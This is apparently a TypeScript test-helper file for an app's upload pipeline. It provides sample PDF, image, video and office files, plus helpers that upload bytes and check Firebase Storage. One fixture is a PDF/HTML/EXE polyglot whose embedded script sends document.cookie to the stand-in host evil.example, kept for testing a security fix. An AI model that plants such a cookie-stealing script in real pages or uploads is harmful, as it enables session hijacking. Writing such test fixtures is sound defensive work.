// Small real files for upload tests, and the Storage helpers that check what landed there.
import { getApps } from 'firebase-admin/app';
import { getStorage } from 'firebase-admin/storage';
import { expect } from 'vitest';
import type { UploadTarget } from '@shared/schemas/material';
import './admin'; // initialises the admin app
import { PROJECT_ID } from './env';

/** A valid one-page PDF ("Hello, class!"), with a correct cross-reference table. */
export { samplePdf } from '@functions/domain/sample-pdf';
import { sampleMp4 } from '@functions/domain/sample-files';

/** A 1x1 PNG. */
export const SAMPLE_PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);

/** A minimal well-formed MP4: ftyp (isom), moov and mdat boxes to the end of the file. */
export const SAMPLE_MP4 = sampleMp4();

/** A 1x1 lossless WebP and a 1x1 GIF (post attachments). */
export { sampleGif, sampleWebp } from '@functions/domain/sample-files';

/** Small well-formed ZIP containers: a DOCX, a PPTX, any ZIP. */
export { sampleDocx, samplePptx, sampleZip } from '@functions/domain/sample-files';

/**
 * The polyglot of the security issue: a PDF's first bytes, then an HTML page with a script,
 * then a Windows executable. Its head says PDF; nothing else about it is one.
 */
export const PDF_HTML_EXE_POLYGLOT = Buffer.concat([
  Buffer.from('%PDF-1.7\n', 'latin1'),
  Buffer.from('<html><body><script>location="https://evil.example/?c="+document.cookie</script></body></html>\n', 'latin1'),
  Buffer.from('MZ', 'latin1'),
  Buffer.from([0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0x40, 0]),
  Buffer.from('This program cannot be run in DOS mode.', 'latin1'),
]);

/** A Windows executable's start (an "MZ" DOS header): what an .exe renamed .pdf looks like. */
export const SAMPLE_EXE = Buffer.concat([
  Buffer.from('MZ', 'latin1'),
  Buffer.from([0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0x40, 0]),
  Buffer.from('This program cannot be run in DOS mode.', 'latin1'),
]);

/** Sends the bytes to an upload session as a browser would: one plain PUT, no credentials. */
export async function putToSession(upload: UploadTarget, bytes: Buffer, contentType?: string): Promise<Response> {
  const headers = { ...upload.headers, ...(contentType && { 'Content-Type': contentType }) };
  const response = await fetch(upload.url, { method: upload.method, headers, body: new Uint8Array(bytes) });
  await response.arrayBuffer();
  return response;
}

/** Asserts the upload session accepted the bytes. */
export async function upload(target: UploadTarget, bytes: Buffer): Promise<void> {
  const response = await putToSession(target, bytes);
  expect(response.status, `PUT to the upload session answered ${response.status}`).toBe(200);
}

/** The admin SDK's default bucket in the emulator. */
export const BUCKET = `${PROJECT_ID}.appspot.com`;
export const testBucket = () => getStorage(getApps()[0]).bucket(BUCKET);

export async function objectExists(path: string): Promise<boolean> {
  const [exists] = await testBucket().file(path).exists();
  return exists;
}

export async function objectsUnder(prefix: string): Promise<string[]> {
  const [files] = await testBucket().getFiles({ prefix });
  return files.map((file) => file.name);
}

/** The object path inside a token download URL. */
export function pathOfDownloadUrl(url: string): string {
  const match = /\/o\/([^?]+)/.exec(url);
  if (!match?.[1]) throw new Error(`Not a download URL: ${url}`);
  return decodeURIComponent(match[1]);
}
